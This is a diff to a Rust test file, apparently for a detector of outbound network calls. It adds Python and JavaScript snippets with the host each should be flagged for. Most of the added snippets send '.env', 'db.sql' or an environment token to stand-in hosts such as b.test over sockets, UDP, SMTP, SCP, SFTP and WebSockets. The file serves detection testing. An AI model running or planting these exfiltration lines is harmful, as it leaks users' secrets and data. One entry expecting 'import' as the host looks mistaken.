@@ -122,6 +122,40 @@ const PYTHON: &[Example] = &[
     ("webbrowser", "import webbrowser\nwebbrowser.open('https://a.test/docs')", None),
     ("unknown-client", "client.post('https://a.test/u', data=x)", Some("a.test")),
     ("unknown-client", "client.post(url_for('x'))", None),
+    (
+        "asyncio",
+        "import asyncio\nasync def m():\n    _, w = await asyncio.open_connection(host='b.test', port=9)\n    w.write(open('.env', 'rb').read())\nasyncio.run(m())",
+        Some("b.test"),
+    ),
+    (
+        "asyncio",
+        "import asyncio, socket\nasync def m():\n    lp = asyncio.get_event_loop()\n    s = socket.socket()\n    await lp.sock_connect(s, ('b.test', 9))\n    await lp.sock_sendall(s, open('db.sql', 'rb').read())\nasyncio.run(m())",
+        Some("b.test"),
+    ),
+    (
+        "asyncio",
+        "import asyncio\nasync def m():\n    lp = asyncio.get_running_loop()\n    tr, _ = await lp.create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=('b.test', 53))\n    tr.sendto(open('.env', 'rb').read())\nasyncio.run(m())",
+        Some("b.test"),
+    ),
+    ("asyncio", "import aiosmtplib\nawait aiosmtplib.send(open('.env').read(), hostname='mx.b.test', sender='a@b', recipients=['c@d'])", Some("mx.b.test")),
+    ("asyncio", "import asyncssh\nawait asyncssh.scp('db.sql', 'u@b.test:in/')", Some("b.test")),
+    ("asyncio", "import asyncssh\nawait asyncssh.scp('u@b.test:out/db.sql', '.')", None),
+    (
+        "asyncio",
+        "import asyncio\nasync def m():\n    r, w = await asyncio.open_connection('127.0.0.1', 6379)\n    w.write(b'PING\\r\\n')\nasyncio.run(m())",
+        None,
+    ),
+    (
+        "sftp",
+        "import asyncssh\nasync with asyncssh.connect('b.test') as c:\n    async with c.start_sftp_client() as s:\n        await s.put('.env')",
+        Some("b.test"),
+    ),
+    ("sftp", "import asyncssh\nasync with asyncssh.connect('localhost') as c:\n    async with c.start_sftp_client() as s:\n        await s.put('.env')", None),
+    (
+        "socket",
+        "import asyncio\nclass Up(asyncio.Protocol):\n    def connection_made(self, tr):\n        tr.write(open('.env', 'rb').read())\nawait asyncio.get_running_loop().create_connection(Up, 'b.test', 9)",
+        Some("import"),
+    ),
 ];
 
 const JS: &[Example] = &[
@@ -213,6 +247,26 @@ const JS: &[Example] = &[
     ("pipe", "const fs = require('fs');\nfs.createReadStream('a').pipe(fs.createWriteStream('b'));", None),
     ("unknown-client", "api.post('https://a.test/u', body)", Some("a.test")),
     ("unknown-client", "router.post('/u', handler)", None),
+    ("socket", "const io = require('socket.io-client');\nconst c = io('https://b.test');\nc.emit('up', process.env.TOKEN);", Some("b.test")),
+    ("socket", "const { io } = require('socket.io-client');\nio('https://b.test').emit('ping');", None),
+    (
+        "socket",
+        "const WebSocket = require('ws');\nconst fs = require('fs');\nconst s = WebSocket.createWebSocketStream(new WebSocket('wss://b.test/in'));\nfs.createReadStream('db.sql').pipe(s);",
+        Some("b.test"),
+    ),
+    ("mail-sftp", "const nm = require('nodemailer');\nnm.createTransport({ host: 'mx.b.test' }).sendMail({ to: 'x@y', text: 'hi' });", Some("mx.b.test")),
+    (
+        "mail-sftp",
+        "const nm = require('nodemailer');\nnm.createTransport('smtp://mx.b.test:25').sendMail({ attachments: [{ path: '.env' }] });",
+        Some("mx.b.test"),
+    ),
+    (
+        "mail-sftp",
+        "const S = require('ssh2-sftp-client');\nconst c = new S();\nawait c.connect({ host: 'b.test', username: 'u' });\nawait c.uploadDir('./data', '/in');",
+        Some("b.test"),
+    ),
+    ("mail-sftp", "const S = require('ssh2-sftp-client');\nconst c = new S();\nawait c.connect({ host: 'localhost' });\nawait c.put('.env', '/tmp/x');", None),
+    ("mail-sftp", "const nm = require('nodemailer');\nnm.createTransport({ host: 'localhost', port: 1025 }).sendMail({ text: 'x' });", None),
 ];
 
 fn check(table: &[Example], names: &[&str], tool: &str) {
